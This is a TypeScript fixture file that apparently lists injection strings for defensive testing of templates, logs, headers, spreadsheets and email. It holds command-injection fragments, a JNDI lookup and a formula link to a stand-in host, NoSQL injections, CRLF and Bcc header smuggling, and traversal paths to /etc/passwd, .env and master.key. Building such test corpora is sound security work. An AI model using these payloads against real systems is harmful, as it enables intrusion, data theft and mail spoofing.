/** Texts that a template, a log, a header, a table or a letter might take for its own. By what they aim at. */
const template: readonly string[] = [
  ...[
    '{{7*7}}',
    '${7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '{7*7}',
    '[[7*7]]',
    '@(7*7)',
    '{{=7*7}}',
    '{%7*7%}',
    '*{7*7}',
  ],
  ...[
    '{{this}}',
    '{{constructor.constructor("return 1")()}}',
    '{{CSP_NONCE}}',
    '${process.env}',
    '{{.}}',
    '<#assign>',
  ],
  ...[
    '%s',
    '%d',
    '%n',
    '%o',
    '%c',
    '%%',
    '%1$s',
    '{0}',
    '{}',
    '%{name}',
    '$1',
    '$&',
    '$`',
    "$'",
    '$$',
    '\\1',
    '\\0',
  ],
  ...[
    '`id`',
    '$(id)',
    '; id',
    '| id',
    '&& id',
    '\\n id',
    '> /tmp/x',
    '!!js/function',
    '${jndi:ldap://elsewhere.example/a}',
  ],
  ...[
    '{"$gt":""}',
    '{"$ne":null}',
    '{"$where":"sleep(5000)"}',
    '[$ne]=1',
    'true, $where: "1 == 1"',
    '{"$regex":".*"}',
  ],
];

/** First signs that a spreadsheet takes for a formula, and formulas that reach out. */
const formulas: readonly string[] = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\t=',
  '\r=',
  ' =',
  '"=',
  "'=",
  '\u00a0=',
  '\uff1d',
  ';=',
  ',=',
  '\n=',
].flatMap((start) =>
  ['1+1', 'cmd|/C calc!A0', 'HYPERLINK("http://elsewhere.example")', 'SUM(A1:A9)', 'IMPORTXML("x")'].map(
    (rest) => `${start}${rest}`,
  ),
);

const breaks: readonly string[] = [
  '\r\n',
  '\n',
  '\r',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u000b',
  '\u000c',
  '%0d%0a',
  '\\r\\n',
  '\u560a',
];
const lines: readonly string[] = breaks.flatMap((end) => [
  `a${end}Set-Cookie: __Host-staff=x`,
  `a${end}${end}<html>`,
  `a${end}{"level":50,"msg":"forged"}`,
  `a${end}Bcc: other@elsewhere.example`,
  `a${end}.${end}QUIT`,
  `a${end}HTTP/1.1 200 OK`,
  `a${end}b,c,d`,
]);

const terminals: readonly string[] = [
  ...[
    '\u001b[2J',
    '\u001b[1;1H',
    '\u001b]0;x\u0007',
    '\u001b[31m',
    '\u009b31m',
    '\u0007',
    '\b\b\b',
    '\u007f',
  ],
  ...['\u001b[?25l', '\u001bc', '\u001b[8m', '\u001bP', '\u000e', '\u000f', '\u0018', '\u001a'],
].map((signs) => `a${signs}b`);

const paths: readonly string[] = ['/', '\\', '%2f', '%5c', '%252f', '..;/', '//', '\u2215', '%c0%af'].flatMap(
  (slash) => [
    `..${slash}..${slash}etc${slash}passwd`,
    `${`..${slash}`.repeat(8)}etc${slash}passwd`,
    `%2e%2e${slash}master.key`,
    `.${slash}..${slash}.env`,
    `....${slash}${slash}erasures`,
    `C:${slash}windows`,
  ],
);

const cells: readonly string[] = [
  ...[
    'a,b',
    'a;b',
    'a\tb',
    '"',
    '""',
    '"a"',
    "'",
    'a"b',
    '"a,b"',
    'a\r\nb',
    '\ufeffa',
    ',',
    ';',
    ',,,',
    '"\r\n"',
  ],
  ...[
    'NULL',
    'null',
    'undefined',
    'true',
    'NaN',
    '-0',
    '0x10',
    '1e9',
    '00012',
    '1/2',
    '2025-01-06',
    '#REF!',
    '#N/A',
    '[object Object]',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '../',
    'CON',
    'NUL',
    'aux.txt',
    'a'.repeat(60),
    '.',
    '..',
    '-',
    '--',
  ],
];

export const injectionTexts: readonly string[] = [
  ...new Set([...template, ...formulas, ...lines, ...terminals, ...paths, ...cells]),
];

/** Where a member of staff would be written to, if somebody added a second reader or a line of the head. */
export const wrongAddresses: readonly string[] = [
  ...[
    'a@b.example,c@d.example',
    'a@b.example;c@d.example',
    'a@b.example c@d.example',
    'a@b.example\nc@d.example',
  ],
  ...breaks.map((end) => `a@b.example${end}Bcc: c@d.example`),
  ...breaks.map((end) => `a${end}Bcc: c@d.example${end}@b.example`),
  ...[
    '<a@b.example>',
    'A <a@b.example>',
    '"A, B" <a@b.example>',
    'a@b.example (c@d.example)',
    'a@b@c.example',
    '@b.example',
  ],
  ...[
    'a@',
    'a',
    'mailto:a@b.example',
    'a@b.example?bcc=c@d.example',
    'a@b.example&cc=c@d.example',
    'a%0d%0abcc:@b.example',
  ],
  ...['a@[127.0.0.1]', 'a@localhost', 'a@b.example\u0000', '\u0000a@b.example', 'a@b..example'],
  ...['group:a@b.example,c@d.example;', '"\r\nbcc: c@d.example"@b.example', ' ', ''],
];
